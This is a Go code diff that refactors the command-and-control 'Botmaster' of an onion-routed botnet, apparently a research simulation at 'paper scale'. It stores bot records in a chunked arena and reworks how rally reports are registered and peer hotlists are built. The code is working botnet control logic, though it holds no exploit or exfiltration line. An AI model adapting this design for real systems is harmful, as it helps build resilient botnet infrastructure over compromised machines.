@@ -42,11 +42,51 @@ func (r *BotRecord) sealKey() *botcrypto.SealKey {
 // once — rally replies compare IDs per candidate draw.
 func (r *BotRecord) ID() string {
 	if r.id == "" {
-		sum := sha256.Sum256(r.KB)
-		r.id = hex.EncodeToString(sum[:8])
+		r.id = recordID(r.KB)
 	}
 	return r.id
 }
+
+func recordID(kb []byte) string {
+	sum := sha256.Sum256(kb)
+	return hex.EncodeToString(sum[:8])
+}
+
+// recordChunkShift sizes record-arena chunks: 1024 records each.
+const recordChunkShift = 10
+
+// recordArena stores BotRecords by value in fixed-capacity chunks.
+// Records never leave the registry, so the arena only appends; a chunk
+// is allocated full-capacity up front and never reallocated, which
+// makes &chunk[i] stable for the life of the botmaster — the registry
+// map, rally replies, and callers of Records all hold pointers into
+// it. Against the former one-pointer-per-record list this packs
+// records contiguously (a hotlist index draw is one predictable
+// indexed load) and drops a million heap objects to ~a thousand chunk
+// allocations at paper scale.
+type recordArena struct {
+	chunks [][]BotRecord
+	n      int
+}
+
+// add appends rec and returns its stable address.
+func (a *recordArena) add(rec BotRecord) *BotRecord {
+	if a.n>>recordChunkShift == len(a.chunks) {
+		a.chunks = append(a.chunks, make([]BotRecord, 0, 1<<recordChunkShift))
+	}
+	c := &a.chunks[len(a.chunks)-1]
+	*c = append(*c, rec)
+	a.n++
+	return &(*c)[len(*c)-1]
+}
+
+// at returns the stable address of record i (registration order).
+func (a *recordArena) at(i int) *BotRecord {
+	return &a.chunks[i>>recordChunkShift][i&(1<<recordChunkShift-1)]
+}
+
+// len reports how many records the arena holds.
+func (a *recordArena) len() int { return a.n }
 
 // Botmaster is the C&C operator: it holds the signing and encryption
 // keys whose public halves are hardcoded into every bot, hosts the
@@ -69,11 +109,11 @@ type Botmaster struct {
 	queues   map[string][]*Command // pull-mode command queues by bot id
 
 	registry map[string]*BotRecord // keyed by BotRecord.ID()
-	// recordList holds the same records in registration order. The
-	// registry never forgets, so the list only appends — an
-	// O(1)-indexable candidate pool for rally replies that would
-	// otherwise sort and shuffle the whole registry per report.
-	recordList []*BotRecord
+	// records holds the same records by value in registration order
+	// (see recordArena). The registry never forgets, so the arena only
+	// appends — an O(1)-indexable candidate pool for rally replies that
+	// would otherwise sort and shuffle the whole registry per report.
+	records recordArena
 	// rallyOpens maps sealed-rally-report digests to the K_B inside,
 	// primed by the identity pool for reports it pre-sealed (sealing and
 	// opening are inverses, so the memo is exact). A hit skips the
@@ -152,7 +192,10 @@ func (m *Botmaster) Onion() string { return m.identity.Onion() }
 
 // Records lists registered bots, sorted by rally order then ID.
 func (m *Botmaster) Records() []*BotRecord {
-	out := append([]*BotRecord(nil), m.recordList...)
+	out := make([]*BotRecord, 0, m.records.len())
+	for i := 0; i < m.records.len(); i++ {
+		out = append(out, m.records.at(i))
+	}
 	sort.Slice(out, func(i, j int) bool {
 		if !out[i].RegisteredAt.Equal(out[j].RegisteredAt) {
 			return out[i].RegisteredAt.Before(out[j].RegisteredAt)
@@ -195,10 +238,14 @@ func (m *Botmaster) onMessage(conn *tor.Conn, raw []byte) {
 	if err != nil {
 		return // forged or corrupted rally report
 	}
-	rec := &BotRecord{KB: kb, FirstOnion: rep.Onion, RegisteredAt: m.net.Now()}
-	if _, dup := m.registry[rec.ID()]; !dup {
-		m.registry[rec.ID()] = rec
-		m.recordList = append(m.recordList, rec)
+	// The ID is computed before any record exists, so a duplicate rally
+	// report never allocates: the registered record answers the reply
+	// (the hotlist only consults the reporter's ID, which matches).
+	id := recordID(kb)
+	rec, dup := m.registry[id]
+	if !dup {
+		rec = m.records.add(BotRecord{KB: kb, FirstOnion: rep.Onion, RegisteredAt: m.net.Now(), id: id})
+		m.registry[id] = rec
 	}
 	m.replyHotlist(conn, rec)
 }
@@ -235,7 +282,7 @@ func (m *Botmaster) replyHotlist(conn *tor.Conn, reporter *BotRecord) {
 		return
 	}
 	rid := reporter.ID()
-	avail := len(m.recordList)
+	avail := m.records.len()
 	if _, registered := m.registry[rid]; registered {
 		avail--
 	}
@@ -247,7 +294,8 @@ func (m *Botmaster) replyHotlist(conn *tor.Conn, reporter *BotRecord) {
 		// Small registry: every other bot's current address, in
 		// registration order.
 		pool = make([]string, 0, avail)
-		for _, r := range m.recordList {
+		for i := 0; i < m.records.len(); i++ {
+			r := m.records.at(i)
 			if r.ID() == rid {
 				continue
 			}
@@ -258,12 +306,12 @@ func (m *Botmaster) replyHotlist(conn *tor.Conn, reporter *BotRecord) {
 		pool = make([]string, 0, m.HotlistSize)
 		seen := make(map[int]struct{}, m.HotlistSize+1)
 		for len(pool) < m.HotlistSize {
-			i := rng.Intn(len(m.recordList))
+			i := rng.Intn(m.records.len())
 			if _, dup := seen[i]; dup {
 				continue
 			}
 			seen[i] = struct{}{}
-			r := m.recordList[i]
+			r := m.records.at(i)
 			if r.ID() == rid {
 				continue
 			}
